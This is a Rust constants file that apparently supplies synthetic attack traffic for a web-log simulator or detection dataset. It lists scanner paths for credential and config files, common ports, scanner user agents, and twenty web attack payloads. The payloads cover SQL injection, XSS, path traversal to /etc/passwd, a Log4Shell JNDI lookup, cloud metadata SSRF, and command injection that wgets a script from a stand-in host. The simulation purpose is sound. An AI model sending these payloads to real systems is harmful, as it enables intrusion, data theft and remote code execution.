//! What attackers ask for. The base traffic never asks for any of it.

/// Paths of other people's software: what worms and scanners try everywhere.
pub const DARK_PATHS: [&str; 24] = [
    "/.env",
    "/wp-login.php",
    "/.git/config",
    "/xmlrpc.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/boaform/admin/formLogin",
    "/actuator/gateway/routes",
    "/solr/admin/info/system",
    "/owa/auth/logon.aspx",
    "/_ignition/execute-solution",
    "/HNAP1/",
    "/manager/html",
    "/phpmyadmin/index.php",
    "/autodiscover/autodiscover.json",
    "/remote/fgt_lang",
    "/cgi-bin/luci/;stok=/locale",
    "/wp-content/plugins/wp-file-manager/readme.txt",
    "/.aws/credentials",
    "/server-status",
    "/telescope/requests",
    "/geoserver/web/",
    "/druid/index.html",
    "/Autodiscover/Autodiscover.xml",
    "/sdk",
];

/// First parts of scanned paths.
pub const SCAN_FOLDERS: [&str; 20] = [
    "",
    "/admin",
    "/backup",
    "/old",
    "/test",
    "/dev",
    "/tmp",
    "/private",
    "/data",
    "/db",
    "/config",
    "/include",
    "/lib",
    "/scripts",
    "/upload",
    "/files",
    "/web",
    "/site",
    "/archive",
    "/_vti_bin",
];
/// Middle parts.
pub const SCAN_NAMES: [&str; 25] = [
    "/index",
    "/admin",
    "/config",
    "/backup",
    "/database",
    "/dump",
    "/test",
    "/info",
    "/phpinfo",
    "/setup",
    "/install",
    "/shell",
    "/upload",
    "/users",
    "/passwd",
    "/secret",
    "/debug",
    "/console",
    "/status",
    "/settings",
    "/login1",
    "/db_backup",
    "/credentials",
    "/id_rsa",
    "/web",
];
/// Last parts.
pub const SCAN_ENDINGS: [&str; 12] =
    [".php", ".bak", ".old", ".zip", ".sql", ".txt", ".asp", ".jsp", ".tar.gz", ".inc", ".xml", "~"];

/// The ports asked for first, then all from 30,000 on.
pub const PORTS: [u16; 40] = [
    21, 22, 23, 25, 53, 80, 81, 88, 110, 111, 135, 139, 143, 389, 443, 445, 465, 587, 636, 993, 995, 1080, 1433, 1521,
    2049, 2375, 3000, 3128, 3306, 3389, 5000, 5432, 5900, 6379, 8000, 8080, 8443, 9000, 9200, 27017,
];

/// Attackers' programs.
pub const TOOLS: [&str; 7] = [
    "",
    "Mozilla/5.0 zgrab/0.x",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "curl/7.88.1",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:40.0) Gecko/20100101 Firefox/40.1",
];

/// Payloads: path, query, agent (empty: a tool's own).
#[rustfmt::skip]
pub const PAYLOADS: [(&str, &str, &str); 20] = [
    ("/search", "q=1%27%20OR%20%271%27%3D%271", ""),
    ("/search", "q=-1%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--%20-", "sqlmap/1.8.2#stable (https://sqlmap.org)"),
    ("/api/v1/recommendations", "sort=price;WAITFOR%20DELAY%20%270:0:5%27--", "sqlmap/1.8.2#stable (https://sqlmap.org)"),
    ("/category/shoes", "sort=price%20AND%20SLEEP(5)", "sqlmap/1.8.2#stable (https://sqlmap.org)"),
    ("/search", "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", ""),
    ("/search", "q=\"><img%20src=x%20onerror=alert(1)>", ""),
    ("/blog/winter-camping", "ref=javascript:alert(1)//", ""),
    ("/products/17", "file=../../../../../../etc/passwd", ""),
    ("/products/17", "file=..%252f..%252f..%252fetc%252fshadow", ""),
    ("/api/v1/products/3", "template={{7*7}}", ""),
    ("/search", "q=${jndi:ldap://192.0.2.200:1389/a}", "${jndi:ldap://192.0.2.200:1389/b}"),
    ("/search", "q=;cat%20/etc/passwd", ""),
    ("/search", "q=%7Cid", ""),
    ("/api/v1/session", "callback=`wget%20http://192.0.2.200/x.sh`", ""),
    ("/products/9", "url=http://169.254.169.254/latest/meta-data/iam/", ""),
    ("/products/9", "page=php://filter/convert.base64-encode/resource=index.php", ""),
    ("/category/tents", "sort=(select(0)from(select(sleep(6)))v)", ""),
    ("/search", "q=%27;EXEC%20xp_cmdshell(%27whoami%27)--", "Nikto/2.5.0"),
    ("/blog", "id=1%20AND%201=CONVERT(int,(SELECT%20@@version))", ""),
    ("/login", "user=admin%27--&next=%0d%0aSet-Cookie:x=1", ""),
];
